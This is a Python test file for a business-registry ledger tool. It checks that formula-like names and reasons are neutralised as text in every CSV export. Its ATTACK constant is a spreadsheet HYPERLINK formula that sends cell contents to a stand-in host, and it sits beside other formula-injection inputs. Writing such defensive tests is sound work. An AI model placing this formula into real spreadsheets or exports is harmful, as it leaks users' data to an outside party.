"""A reason (or a name) typed as a spreadsheet formula reaches every CSV as text: the
audit trail, the audit report, a program's progress, the read commands, an import's
report."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from umkm_ledger import Ledger, import_enterprises
from umkm_ledger.cli import cli

ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"klik")'
OWNER = [{"name": "Siti Aminah", "nik": "1610084708800001", "gender": "F", "birth_year": 1980}]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_a_formula_typed_as_a_reason_or_a_name_is_text_in_every_csv(
    sqlite_url: str, tmp_path: Path
) -> None:
    ledger = Ledger.open(sqlite_url, actor="siti@officer", notices=False)
    enterprise = ledger.register_enterprise(
        "@SUM(1+1)", owners=OWNER, desa="16.10.08.2003", sector="13121",
        founded_on="2015-01-01", effective_date="2016-12-16",
    )  # fmt: skip
    ledger.mark_dormant(enterprise, reason=ATTACK, effective_date="2017-01-02")
    ledger.close()
    runner = CliRunner()
    outputs = []
    for args in (
        ["audit", "trail", "--format", "csv"],
        ["enterprise", "list", "--format", "csv"],
        ["enterprise", "timeline", str(enterprise), "--format", "csv"],
    ):
        done = runner.invoke(cli, ["--db", sqlite_url, *args])
        assert done.exit_code == 0, done.output
        outputs.append(done.stdout)
    registry = tmp_path / "list.csv"
    registry.write_text(
        "Nama Usaha,Nama Pemilik,NIK,Jenis Kelamin,Tahun Lahir,Kode Desa,KBLI,Tanggal Berdiri\n"
        "=1+2,Budi,16100812127900XX,L,1979,1610082003,13121,01/01/2015\n",
        encoding="utf-8",
    )
    report = import_enterprises(Ledger.open(sqlite_url, notices=False), registry)
    outputs.append(report.to_csv())
    cells = [cell for text in outputs for cell in _cells(text)]
    assert f"'{ATTACK}" in cells  # the reason, shown as the text it is
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
